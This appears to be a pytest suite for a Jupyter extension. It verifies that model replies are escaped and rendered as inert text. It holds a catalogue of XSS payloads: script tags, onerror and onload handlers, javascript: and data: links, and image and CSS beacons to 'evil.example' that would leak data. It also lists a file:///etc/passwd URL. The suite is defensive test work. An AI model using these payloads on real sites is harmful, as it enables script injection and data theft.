"""Escaping: model output that is HTML shows as text, in the cell and in the form.

Here the saved outputs of a real kernel (nbclient), the form's HTML and the Markdown
renderer's HTML are read; the browser test next to this one proves that no script runs and
no request leaves when JupyterLab shows them. ``HOSTILE`` is the catalogue both use.
"""

from __future__ import annotations

import html as htmllib
import time
from dataclasses import dataclass
from html.parser import HTMLParser

import nbformat
import pytest
from nbclient import NotebookClient

from tests import conftest
from tests.helpers import chat, model, publish, runs

PAYLOAD = "<img src=x onerror=alert(1)>"


@dataclass(frozen=True)
class Hostile:
    """A reply an attacker would like a model to write, and what the Markdown view shows."""

    id: str
    reply: str
    #: The text the Markdown view shows (entities decoded, inert Markdown kept as written).
    markdown_text: str
    #: A link the Markdown view may show instead of loading something (an image's URL).
    markdown_link: str | None = None


#: Model output that must never run script or fetch anything when shown (issue 12). The
#: list with an indented fence goes last: CommonMark ends its fence at the end of the list
#: item, where an escaper that tracks fences line by line thinks it still open.
HOSTILE = [
    Hostile("script", "<script>alert(2)</script>", "<script>alert(2)</script>"),
    Hostile("svg-onload", "<svg onload=alert(3)>", "<svg onload=alert(3)>"),
    Hostile(
        "iframe-srcdoc",
        '<iframe srcdoc="<script>alert(4)</script>"></iframe>',
        '<iframe srcdoc="<script>alert(4)</script>"></iframe>',
    ),
    Hostile("js-link", "[click me](javascript:alert(5))", "[click me](javascript:alert(5))"),
    Hostile(
        "js-link-raw",
        '<a href="javascript:alert(6)">raw link</a>',
        '<a href="javascript:alert(6)">raw link</a>',
    ),
    Hostile("js-autolink", "<javascript:alert(7)>", "<javascript:alert(7)>"),
    Hostile("js-reference", "[ref]\n\n[ref]: javascript:alert(8)", "[ref]: javascript:alert(8)"),
    Hostile(
        "data-link",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==)",
    ),
    Hostile(
        "remote-image",
        "![t](http://evil.example/leak?d=x)",
        "image: t",
        markdown_link="http://evil.example/leak?d=x",
    ),
    Hostile(
        "data-image",
        "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTApPg==)",
        "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTApPg==)",
    ),
    Hostile(
        "remote-image-raw",
        "<img src=http://evil.example/raw.png>",
        "<img src=http://evil.example/raw.png>",
    ),
    Hostile(
        "css-beacon",
        "<style>*{background:url(http://evil.example/css)}</style>",
        "<style>*{background:url(http://evil.example/css)}</style>",
    ),
    Hostile(
        "entities",
        "&lt;script&gt;alert(11)&lt;/script&gt;",
        "<script>alert(11)</script>",
    ),
    Hostile(
        "numeric-entities",
        "&#60;img src=x onerror=alert(12)&#x3e;",
        "<img src=x onerror=alert(12)>",
    ),
    Hostile(
        "list-fence",
        "- a\n  ```\n<img src=y onerror=alert(document.cookie.length)>\n```\n",
        "<img src=y onerror=alert(document.cookie.length)>",
    ),
]
#: Every hostile reply in one, for the browser test: one notebook shows them all.
ALL_HOSTILE = "\n\n".join(h.reply for h in HOSTILE)

#: Tags the Markdown renderer may write (all from CommonMark's own constructs).
ALLOWED_TAGS = {
    *[
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "span",
        "strong",
    ],
    *["table", "tbody", "td", "th", "thead", "tr", "ul", "s"],
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse_html(markup: str) -> _Tags:
    """The tags (with attributes) and the visible text of ``markup``, as a browser parses it."""
    parser = _Tags()
    parser.feed(markup)
    parser.close()
    return parser


def assert_inert(markup: str) -> None:
    """No tag outside the renderer's own, no handler, no loaded URL, no unsafe link."""
    for tag, attrs in parse_html(markup).tags:
        assert tag in ALLOWED_TAGS, (tag, markup)
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert not {"src", "srcdoc", "style", "formaction", "background"} & set(attrs) or (
            tag in ("div", "pre", "tr") and set(attrs) <= {"class", "style"}  # not the model's
        ), (tag, attrs)
        href = attrs.get("href")
        if href is not None:
            assert href.startswith(("http://", "https://", "mailto:")), (tag, attrs)


ESCAPED = "&lt;img src=x onerror=alert(1)&gt;"
KERNELSPEC = {"name": "python3", "display_name": "Python 3", "language": "python"}


@pytest.fixture
def xss(openai_env, fake_provider):
    publish("xss", chat(("user", "say it")), model())
    fake_provider.reply_text = PAYLOAD


def _html_outputs(cell: nbformat.NotebookNode) -> list[str]:
    return [
        o["data"]["text/html"]
        for o in cell.outputs
        if o["output_type"] in ("display_data", "execute_result") and "text/html" in o["data"]
    ]


def test_the_magic_escapes_model_output_in_every_view(xss, tmp_path):
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = KERNELSPEC
    nb.cells = [
        nbformat.v4.new_code_cell(source)
        for source in (
            "%load_ext pl_magic",
            "%plrun xss",  # streamed into the cell
            "%plrun xss --no-stream",
            "%plrun xss --repeat 2",  # the live grid, then the DataFrame
            "import pl_magic\npl_magic.runs()[['output']]",
            "%plrun xss --format markdown",
            "pl_magic.compare(pl_magic.runs())",
            "%config PlMagic.output_format = 'markdown'\n%plrun xss --no-stream",
        )
    ]
    NotebookClient(
        nb, timeout=120, kernel_name="python3", resources={"metadata": {"path": str(tmp_path)}}
    ).execute()
    nbformat.write(nb, tmp_path / "xss.ipynb")
    conftest.audit_dir(tmp_path)

    for index in (1, 2, 3, 4, 6):
        shown = _html_outputs(nb.cells[index])
        assert shown, f"cell {index} showed no HTML"
        for html in shown:
            assert PAYLOAD not in html and "<img" not in html, (index, html)
        assert any(ESCAPED in html for html in shown), (index, shown)
    # Markdown: rendered in the kernel and sent as HTML (Jupyter would render a live
    # output's Markdown as trusted, unsanitized): no text/markdown for it to re-parse
    for index in (5, 7):  # --format markdown, then PlMagic.output_format = "markdown"
        (shown,) = [o["data"] for o in nb.cells[index].outputs]
        assert "text/markdown" not in shown and shown["text/plain"].startswith(PAYLOAD)
        assert ESCAPED in shown["text/html"] and "<img" not in shown["text/html"]
        assert "pl-magic-markdown" in shown["text/html"]
        assert_inert(shown["text/html"])
    # the plain-text views keep the text as it is
    plain = nb.cells[1].outputs[0]["data"]["text/plain"]
    assert plain.startswith(PAYLOAD)
    assert {r["output"] for r in runs()} == {PAYLOAD}


@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.id for h in HOSTILE])
def test_markdown_renders_hostile_replies_as_inert_text(hostile):
    from pl_magic.ui.markdown_view import render_markdown

    rendered = render_markdown(hostile.reply)
    assert_inert(rendered)
    parsed = parse_html(rendered)
    text = " ".join("".join(parsed.text).split())
    assert " ".join(hostile.markdown_text.split()) in text, rendered
    links = [attrs["href"] for tag, attrs in parsed.tags if tag == "a"]
    assert links == ([hostile.markdown_link] if hostile.markdown_link else []), rendered


def test_markdown_still_renders_markdown():
    from pl_magic.ui.markdown_view import render_markdown

    rendered = render_markdown(
        "# T\n\n**b** *i* `<c>` [ok](https://example.org/a?b=1&c=2) <mailto:a@b.c>\n\n"
        "```html\n<div>kept</div>\n```\n\n| x | y |\n|---|---|\n| 1 | ~~2~~ |\n"
    )
    assert_inert(rendered)
    for part in (
        "<h1>T</h1>",
        "<strong>b</strong>",
        "<em>i</em>",
        "<code>&lt;c&gt;</code>",
        'href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow"',
        'href="mailto:a@b.c"',
        '<code class="language-html">&lt;div&gt;kept&lt;/div&gt;\n</code>',
        "<td><s>2</s></td>",
    ):
        assert part in rendered, (part, rendered)


@pytest.mark.parametrize(
    "url",
    [
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
        "relative/path",
        "data:image/png;base64,AAAA",
        "ftp://x.y/z",
    ],
)
def test_only_http_https_and_mailto_links_are_live(url):
    from pl_magic.ui.markdown_view import render_markdown

    for markdown in (f"[x]({url})", f"![x]({url})", f"<{url}>", f"[x]\n\n[x]: {url}"):
        rendered = render_markdown(markdown)
        assert_inert(rendered)
        assert "<a " not in rendered, (markdown, rendered)


def test_the_markdown_view_sends_html_built_in_the_kernel():
    from pl_magic.ui.display import run_bundle

    reply = HOSTILE[-1].reply
    bundle = run_bundle(reply, "— xss v1 <b>", "markdown")
    assert set(bundle) == {"text/plain", "text/html"}
    assert bundle["text/plain"] == reply + "\n— xss v1 <b>"
    assert_inert(bundle["text/html"])
    assert "&lt;img src=y onerror=" in bundle["text/html"] and "&lt;b&gt;" in bundle["text/html"]
    streaming = run_bundle(ALL_HOSTILE, "", "markdown", streaming=True)
    assert_inert(streaming["text/html"])
    assert streaming["text/html"].endswith('<span class="pl-magic-cursor">▌</span></div>')


def test_every_view_of_the_catalogue_is_inert():
    from pl_magic.ui.display import GridCell, GridView, run_bundle

    for fmt in ("text", "markdown"):
        assert_inert(run_bundle(ALL_HOSTILE, ALL_HOSTILE, fmt, "error")["text/html"])
    grid = GridView([GridCell(ALL_HOSTILE, ALL_HOSTILE, ALL_HOSTILE, "error", ALL_HOSTILE)])
    markup = grid._html()
    assert "<img" not in markup and "<script" not in markup and "<svg" not in markup
    assert htmllib.escape(HOSTILE[0].reply) in markup


MARKDOWN_DOC = (
    "# Title\n\nSome *para*\nlazy line\n\n- a\n- b\n\n  continued\n\n1. x\n2. y\n\n"
    "```py\nx<1\n```\n\n> quote\nlazy\n\n[ref]: https://a.b\n\nPara [ref] end.\n\nHead\n===\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n    code\n\nend\r\nx\ry\v\x0c\u2028z"
)


@pytest.mark.parametrize("doc", [MARKDOWN_DOC, ALL_HOSTILE], ids=["markdown", "hostile"])
@pytest.mark.parametrize("step", [1, 5])
def test_the_streaming_preview_renders_only_what_changed_and_ends_as_the_whole(doc, step):
    from pl_magic.ui.markdown_view import MarkdownStream, render_markdown

    stream = MarkdownStream()
    for end in [*range(0, len(doc), step), len(doc)]:
        shown = stream.render(doc[:end])
        assert_inert(shown)
    assert shown == render_markdown(doc)
    assert stream.render("other text") == render_markdown("other text")  # not a growth


def test_a_streaming_update_costs_what_changed_not_the_whole_reply():
    """Deep into a 200 kB reply, an update renders the last block and the new text only:
    far cheaper than rendering the whole reply, which the final view does once."""
    from pl_magic.ui.markdown_view import MarkdownStream, render_markdown

    reply = "".join(
        f"Para **{i}** with `code` and [a link](https://x.y/{i})\n\n" for i in range(4000)
    )
    began = time.perf_counter()
    render_markdown(reply)
    whole = time.perf_counter() - began
    stream = MarkdownStream()
    stream.render(reply[: len(reply) - 4000])  # what was shown so far
    began = time.perf_counter()
    for end in range(len(reply) - 4000, len(reply), 200):  # 20 updates of 200 characters
        stream.render(reply[:end])
    per_update = (time.perf_counter() - began) / 20
    assert per_update < whole / 50, (per_update, whole)


def test_slow_updates_are_spaced_out():
    from pl_magic.ui.display import Throttle

    throttle = Throttle(20)
    assert throttle.ready()
    throttle.took(0.001)  # cheap: the next update after 1/20 s
    assert throttle.gap == 0.05
    throttle.took(0.5)  # slow: the next waits three times as long as it took
    assert throttle.gap == 1.5 and not throttle.ready()


def test_the_form_escapes_model_output(xss):
    from pl_magic.surfaces.widget import PromptForm

    form = PromptForm("xss")
    form.run()
    assert ESCAPED in form.reply.value and PAYLOAD not in form.reply.value
    assert PAYLOAD not in form.table.value and "&lt;img src=x" in form.table.value
    form.stream.value = False
    form.run()
    assert form.reply.value.count(ESCAPED) == 1 and "<img" not in form.reply.value


def test_the_form_shows_the_hostile_catalogue_as_text(openai_env, fake_provider):
    from pl_magic.surfaces.widget import PromptForm

    publish("xss", chat(("user", "say it")), model())
    fake_provider.reply_text = ALL_HOSTILE
    form = PromptForm("xss")
    for stream in (True, False):
        form.stream.value = stream
        form.run()
        for markup in (form.reply.value, form.table.value, form.status.value):
            assert_inert(markup)
        text = "".join(parse_html(form.reply.value).text)
        assert all(h.reply in text for h in HOSTILE)
    assert "<script>alert(2)" in "".join(parse_html(form.table.value).text)


def test_an_error_echoing_html_is_escaped_in_the_form(openai_env, fake_provider):
    from pl_magic.surfaces.widget import PromptForm

    publish("xss", chat(("user", "hi {name}")), model())
    form = PromptForm("xss")
    form.variables.children[0].value = ""
    form.run()  # the missing-variable error names the variable
    assert "name" in form.status.value
    publish("xss", chat(("user", "hi {x}")), model(f"gpt-err-404-{PAYLOAD}"))
    form.refresh()
    form.version.value = ("version", 2)
    form.variables.children[0].value = "a"
    form.run()  # the provider's 404 names the model
    assert form.last_error is not None and PAYLOAD in str(form.last_error)
    assert ESCAPED in form.status.value and "<img" not in form.status.value
